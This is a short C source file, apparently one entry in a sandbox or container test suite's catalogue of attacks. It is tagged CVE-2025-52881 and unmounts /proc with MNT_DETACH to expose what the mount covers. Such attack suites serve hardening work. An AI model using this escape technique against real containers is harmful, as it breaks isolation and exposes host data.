/* A mount taken away, and what it covers laid bare. */
#include "../attack.h"

#include <sys/mount.h>

#include "own_mounts.h"

ATTACK(FILES, "root", .gain = "what lies below a mount", .source = "CVE-2025-52881",
       .works = AS_ROOT, .flags = NESTING)
{
	return own_mounts() < 0 ? -1 : umount2("/proc", MNT_DETACH);
}
